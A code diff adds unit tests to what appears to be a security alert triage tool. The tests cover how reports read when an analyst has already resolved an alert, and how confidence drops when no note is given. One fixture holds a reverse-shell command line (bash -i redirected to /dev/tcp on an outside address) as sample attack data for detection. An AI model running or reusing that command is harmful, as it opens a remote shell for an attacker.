@@ -88,6 +88,37 @@ describe('how the same was judged before', () => {
   })
 })
 
+describe('an alert that somebody has resolved already', () => {
+  const attack = anEvent({ fields: { 'proc.cmdline': 'bash -c bash -i >& /dev/tcp/203.0.113.24/4444' } })
+  const resolvedAs = (outcome: Outcome, note: string, event = shell) =>
+    reported({ alert: Object.assign(alertOf(event), { status: 'resolved', by: 'U0ANA', at: morning, outcome, note }) }, event)
+
+  test("is told by that person's outcome, and nobody is asked to settle it again", () => {
+    const report = resolvedAs('true positive', 'the pod was taken over')
+    expect(report.verdict).toMatchObject({ label: 'resolved as true positive', confidence: 'medium' })
+    expect(textOf(report, 'Verdict')).toMatch(
+      /^U0ANA resolved this alert as true positive, 2026-11-24T09:30:00Z, noting the pod was taken over\./,
+    )
+    expect(textOf(report)).not.toMatch(/not settled|resolves it by that answer/i)
+    expect(textOf(report, 'Conclusion')).toContain('U0ANA has judged it real (true positive)')
+    expect(textOf(report, 'Summary').match(/U0ANA resolved/g)).toHaveLength(1)
+  })
+
+  test('shows what the event itself shows beside the outcome, or against it', () => {
+    expect(textOf(resolvedAs('true positive', 'real', attack), 'Verdict')).toMatch(/^What the command line asks for opens/m)
+    const benign = resolvedAs('benign', 'a drill', attack)
+    expect(benign.verdict).toMatchObject({ label: 'resolved as benign', confidence: 'low' })
+    expect(textOf(benign, 'Verdict')).toContain('Against it: What the command line asks for opens')
+    expect(textOf(benign, 'Conclusion')).toContain('hold that against what speaks against it')
+  })
+
+  test('is less sure without a note that says why', () => {
+    const sure = (note: string) => resolvedAs('false positive', note).verdict.confidence
+    expect([sure('the backup'), sure(' ')]).toEqual(['medium', 'low'])
+    expect(textOf(resolvedAs('false positive', 'the backup'), 'Conclusion')).toContain('Next: nothing, as U0ANA has closed it')
+  })
+})
+
 describe('a suppression', () => {
   const suppression: Suppression = {
     id: 's1',
